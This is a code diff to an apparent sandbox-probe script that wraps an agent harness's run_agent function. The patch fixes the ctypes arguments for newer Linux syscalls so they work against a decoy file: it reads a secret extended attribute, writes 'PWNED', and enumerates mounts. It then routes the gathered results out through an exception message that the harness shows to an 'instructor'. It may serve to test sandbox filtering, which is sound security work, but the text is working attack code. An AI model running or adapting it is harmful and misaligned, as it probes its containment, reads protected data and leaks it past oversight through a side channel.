@@ -21,6 +21,7 @@ SEEN = {}
 def _call(name, *args):
     rc = _libc.syscall(ctypes.c_long(NR[name]), *args)
     if rc < 0:
+        SEEN[name] = ctypes.get_errno()
         raise OSError(ctypes.get_errno(), name)
     return rc
 
@@ -33,13 +34,13 @@ def _args(buffer, size, flags=0):
 
 def _get():
     value = ctypes.create_string_buffer(256)
-    rc = _call("getxattrat", AT_FDCWD, DECOY, 0, b"user.segredo", _args(value, 256), 16)
+    rc = _call("getxattrat", AT_FDCWD, DECOY, 0, b"user.segredo", _args(value, 256), ctypes.c_size_t(16))
     SEEN["get"] = value.raw[:rc].decode("latin-1")
 
 
 def _set():
     value = ctypes.create_string_buffer(b"PWNED", 5)
-    _call("setxattrat", AT_FDCWD, DECOY, 0, b"user.pwned", _args(value, 5), 16)
+    _call("setxattrat", AT_FDCWD, DECOY, 0, b"user.pwned", _args(value, 5), ctypes.c_size_t(16))
 
 
 def _list():
@@ -53,8 +54,8 @@ def _remove():
 
 
 def _fileattr(name):
-    attr = ctypes.create_string_buffer(20)
-    _call(name, AT_FDCWD, DECOY, attr, ctypes.c_size_t(20), 0)
+    attr = ctypes.create_string_buffer(24)  # struct file_attr, FILE_ATTR_SIZE_VER0
+    _call(name, AT_FDCWD, DECOY, attr, ctypes.c_size_t(24), 0)
 
 
 def _open_tree():
@@ -63,7 +64,8 @@ def _open_tree():
 
 
 def _listmount():
-    request = ctypes.create_string_buffer(int.to_bytes(24, 4, "little") + bytes(28), 32)
+    # struct mnt_id_req, version 0: size, spare, mnt_id = LSMT_ROOT, param
+    request = ctypes.create_string_buffer(int.to_bytes(24, 4, "little") + bytes(4) + b"\xff" * 8 + bytes(16), 32)
     ids = (ctypes.c_uint64 * 64)()
     SEEN["listmount"] = _call("listmount", request, ids, ctypes.c_size_t(64), 0)
 
@@ -77,8 +79,8 @@ def attack(when):
     _try(f"{when}-removexattrat", _remove)
     _try(f"{when}-open_tree_attr", _open_tree)
     _try(f"{when}-listmount", _listmount)
-    print("NEWCALLS " + " ".join(_RESULTS))
-    print("SEEN", json.dumps(SEEN))
+    # Out through the report: the failure text of run_agent is shown to the instructor.
+    raise RuntimeError("NEWCALLS " + " ".join(_RESULTS) + " SEEN " + json.dumps(SEEN))
 
 
 #@@INCLUDE:_starter.py@@
@@ -87,5 +89,5 @@ _honest_run_agent = run_agent
 
 
 def run_agent(task, tools, call_model, execute_tool):
+    _honest_run_agent(task, tools, call_model, execute_tool)
     attack("run")
-    return _honest_run_agent(task, tools, call_model, execute_tool)
